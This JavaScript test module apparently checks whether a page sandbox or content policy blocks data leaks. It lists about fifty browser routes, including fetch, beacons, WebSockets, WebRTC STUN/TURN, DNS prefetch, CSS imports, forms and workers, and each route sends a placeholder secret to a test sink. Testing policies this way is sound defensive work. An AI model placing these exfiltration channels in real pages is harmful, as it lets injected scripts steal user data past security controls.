/**
 * Ways by which a script in a page could get a byte out. Each takes a sink (`{ url, host, name, port }`) of its own and
 * tries; none cleans up after itself, as each runs in a page of its own. Served as a real file, because code that is
 * evaluated through the developer tools is exempt from parts of the policy.
 */
const LOOT = 'loot=SECRET-4711';

/** @param {string} tag @param {Record<string, string>} attributes @param {ParentNode} [parent] */
function add(tag, attributes, parent = document.body) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  parent.append(element);
  return element;
}

const link = (rel, more = {}) => (sink) => add('link', { rel, href: `${sink.url}/x?${LOOT}`, ...more }, document.head);

async function offer(scope, iceServers) {
  const peer = new scope.RTCPeerConnection({ iceServers });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
}

export const PAGE_CHANNELS = {
  fetch: (sink) => fetch(`${sink.url}/?${LOOT}`, { mode: 'no-cors' }),
  'fetch-keepalive': (sink) => fetch(sink.url, { mode: 'no-cors', method: 'POST', keepalive: true, body: LOOT }),
  'fetch-later': (sink) => fetchLater(`${sink.url}/?${LOOT}`, { activateAfter: 0 }),
  xhr: (sink) => {
    const request = new XMLHttpRequest();
    request.open('POST', sink.url);
    request.send(LOOT);
  },
  beacon: (sink) => navigator.sendBeacon(sink.url, LOOT),
  websocket: (sink) => new WebSocket(`ws://${sink.host}:${sink.port}/?${LOOT}`),
  'websocket-stream': (sink) => new WebSocketStream(`ws://${sink.host}:${sink.port}/?${LOOT}`),
  'event-source': (sink) => new EventSource(`${sink.url}/?${LOOT}`),
  'web-transport': (sink) => new WebTransport(`https://${sink.host}:${sink.port}/?${LOOT}`),
  'webrtc-stun': (sink) => offer(window, [{ urls: `stun:${sink.host}:${sink.port}` }]),
  'webrtc-turn-tcp': (sink) =>
    offer(window, [{ urls: `turn:${sink.host}:${sink.port}?transport=tcp`, username: LOOT, credential: 'x' }]),
  'webrtc-of-empty-frame': (sink) => offer(add('iframe', {}).contentWindow, [{ urls: `stun:${sink.host}:${sink.port}` }]),
  'webrtc-dns': (sink) => offer(window, [{ urls: `stun:secret-4711.${sink.name}:${sink.port}` }]),
  image: (sink) => (new Image().src = `${sink.url}/?${LOOT}`),
  'image-srcset': (sink) => add('img', { srcset: `${sink.url}/?${LOOT} 1x` }),
  'svg-image': (sink) => {
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', `${sink.url}/?${LOOT}`);
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    svg.append(image);
    document.body.append(svg);
  },
  'css-background': (sink) => (document.body.style.backgroundImage = `url("${sink.url}/?${LOOT}")`),
  'css-import': (sink) => {
    const sheet = add('style', {});
    sheet.textContent = `@import url("${sink.url}/?${LOOT}");`;
  },
  font: (sink) => new FontFace('x', `url("${sink.url}/?${LOOT}")`).load(),
  video: (sink) => add('video', { src: `${sink.url}/?${LOOT}`, preload: 'auto' }),
  audio: (sink) => add('audio', { src: `${sink.url}/?${LOOT}`, preload: 'auto' }),
  track: (sink) => {
    const video = add('video', { crossorigin: '' });
    const track = add('track', { src: `${sink.url}/?${LOOT}`, kind: 'subtitles', default: '' }, video);
    track.track.mode = 'showing';
  },
  script: (sink) => (add('script', {}).src = `${sink.url}/?${LOOT}`),
  'dynamic-import': (sink) => import(`${sink.url}/?${LOOT}`),
  iframe: (sink) => add('iframe', { src: `${sink.url}/?${LOOT}` }),
  'iframe-srcdoc': (sink) => (add('iframe', {}).srcdoc = `<img src="${sink.url}/?${LOOT}">`),
  object: (sink) => add('object', { type: 'text/html', data: `${sink.url}/?${LOOT}` }),
  embed: (sink) => add('embed', { type: 'text/html', src: `${sink.url}/?${LOOT}` }),
  'form-get': (sink) => {
    const form = add('form', { action: sink.url, method: 'get' });
    add('input', { name: 'loot', value: 'SECRET-4711' }, form);
    form.submit();
  },
  'form-post': (sink) => {
    const form = add('form', { action: sink.url, method: 'post' });
    add('input', { name: 'loot', value: 'SECRET-4711' }, form);
    form.submit();
  },
  'anchor-click': (sink) => add('a', { href: `${sink.url}/?${LOOT}` }).click(),
  'anchor-ping': (sink) => add('a', { href: '#x', ping: `${sink.url}/?${LOOT}` }).click(),
  'anchor-download': (sink) => add('a', { href: `${sink.url}/?${LOOT}`, download: 'x' }).click(),
  'window-open': (sink) => window.open(`${sink.url}/?${LOOT}`),
  location: (sink) => (location.href = `${sink.url}/?${LOOT}`),
  'meta-refresh': (sink) => add('meta', { 'http-equiv': 'refresh', content: `0;url=${sink.url}/?${LOOT}` }, document.head),
  prefetch: link('prefetch'),
  preload: link('preload', { as: 'image' }),
  'module-preload': link('modulepreload'),
  preconnect: link('preconnect'),
  'dns-prefetch': (sink) => add('link', { rel: 'dns-prefetch', href: `//secret-4711.${sink.name}` }, document.head),
  stylesheet: link('stylesheet'),
  icon: link('icon'),
  manifest: link('manifest'),
  'speculation-rules': (sink) => {
    const script = add('script', { type: 'speculationrules' });
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${sink.url}/?${LOOT}`] }] });
  },
  'cache-add': async (sink) => (await caches.open('x')).add(new Request(`${sink.url}/?${LOOT}`, { mode: 'no-cors' })),
  'audio-worklet': (sink) => new AudioContext().audioWorklet.addModule(`${sink.url}/?${LOOT}`),
  'same-origin-redirect': (sink) => fetch(`/redirect?to=${encodeURIComponent(`${sink.url}/?${LOOT}`)}`, { mode: 'no-cors' }),
  'cross-origin-worker': (sink) => new Worker(`${sink.url}/?${LOOT}`),
  'blob-worker': (sink) => {
    const source = `fetch("${sink.url}/?${LOOT}", { mode: "no-cors" })`;
    new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
  },
  'shared-worker': (sink) => new SharedWorker('/channels/relay.js', { name: `${sink.url}/?${LOOT}` }),
  'other-service-worker': (sink) =>
    navigator.serviceWorker.register(`/channels/relay.js?to=${encodeURIComponent(`${sink.url}/?${LOOT}`)}`, { scope: '/channels/none/' }),
};

/** Ways to tell the app's own server something; only a cache-only service worker closes these. */
export const OWN_SERVER_CHANNELS = {
  'own-fetch': () => fetch(`/own-fetch?${LOOT}`),
  'own-image': () => (new Image().src = `/own-image?${LOOT}`),
  'own-beacon': () => navigator.sendBeacon(`/own-beacon?${LOOT}`, LOOT),
  'own-navigation': () => (location.href = `/own-navigation?${LOOT}`),
  'own-frame': () => add('iframe', { src: `/own-frame?${LOOT}` }),
  'own-form': () => {
    const form = add('form', { action: '/own-form', method: 'get' });
    add('input', { name: 'loot', value: 'SECRET-4711' }, form);
    form.submit();
  },
  'own-module': () => import(`/own-module?${LOOT}`),
  'own-worker': () => new Worker(`/own-worker?${LOOT}`),
};
